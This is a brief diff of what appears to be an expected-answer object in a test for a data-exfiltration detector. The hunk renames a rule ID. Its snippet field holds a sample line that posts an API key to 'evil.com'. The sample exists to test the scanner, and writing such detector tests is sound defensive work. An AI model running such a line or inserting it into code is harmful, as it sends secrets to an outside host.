@@ -24,7 +24,7 @@ const answer = {
       column: 2,
       endLine: 4,
       detector: 'data_exfil_v2',
-      ruleId: 'data-exfiltration/env-to-network',
+      ruleId: 'data-exfiltration/secret-to-foreign-host',
       remediation: 'Do not run this code. Rotate the secret if it has been run.',
       fingerprint: '5f1d4f0e3c1b7a9e2d6c8b0a4f3e2d1c5f1d4f0e3c1b7a9e2d6c8b0a4f3e2d1c',
       snippet: 'requests.post("https://evil.com", data=api_key)',
